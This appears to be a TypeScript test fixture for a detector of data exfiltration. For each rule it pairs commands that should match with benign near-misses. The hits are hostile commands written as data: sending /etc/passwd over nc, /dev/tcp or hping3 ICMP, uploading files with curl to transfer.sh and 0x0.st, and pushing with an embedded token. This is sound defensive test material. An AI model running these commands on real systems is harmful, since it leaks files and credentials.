import type { Triggers } from '../trigger.ts'

/** Triggers of the rules in this folder, and what must not match. */
export const exfiltration: Triggers = {
  'exfiltration/file-uploaded': {
    hits: [
      'curl -T x ftp://192.0.2.7/',
      'curl -F file=@x http://192.0.2.7',
      'wget --post-file=x http://192.0.2.7',
      'python3 -m http.server 80',
      ['sh', '-c', 'nc 192.0.2.7 80 < /etc/passwd'],
    ],
    misses: ['curl -d a=b http://192.0.2.7', 'curl http://192.0.2.7'],
  },
  'exfiltration/file-to-cloud': {
    hits: [
      'rclone copy x remote:y',
      'aws s3 cp x s3://b/',
      'curl --upload-file x https://transfer.sh/x',
    ],
    misses: ['rclone listremotes', 'aws s3 ls'],
  },
  'exfiltration/file-to-repository': {
    hits: ['gh gist create x', 'git push https://a:token@github.com/a/b'],
    misses: ['git push origin main'],
  },
  'exfiltration/file-split': {
    hits: ['split -b 1M x', 'split --bytes=500k x'],
    misses: ['split -l 10 x'],
  },
  'exfiltration/file-to-connection': {
    hits: [['bash', '-c', 'cat /etc/x > /dev/tcp/198.51.100.7/80']],
    misses: [['bash', '-c', 'cat /etc/x > /dev/null']],
  },
  'exfiltration/file-to-text-service': {
    hits: ['curl -F file=@x https://0x0.st', 'curl --upload-file x https://transfer.sh/x'],
    misses: ['curl https://transfer.sh/x', 'curl -F file=@x https://example.org'],
  },
  'exfiltration/pipe-to-ssh': {
    hits: [
      ['ssh', 'a@192.0.2.7', 'cat > /x.tar.gz'],
      ['ssh', 'a@192.0.2.7', 'tar xzf -'],
    ],
    misses: [['ssh', 'a@192.0.2.7', 'cat /etc/hostname']],
  },
  'exfiltration/ping-with-data': {
    hits: ['ping -c 1 -p 6869 192.0.2.7', 'hping3 --icmp --file /etc/passwd 192.0.2.7'],
    misses: ['ping -c 1 192.0.2.7'],
  },
  'exfiltration/channel-of-openssl': {
    hits: ['openssl s_client -quiet -connect 192.0.2.7:443'],
    misses: ['openssl s_client -connect 192.0.2.7:443'],
  },
}
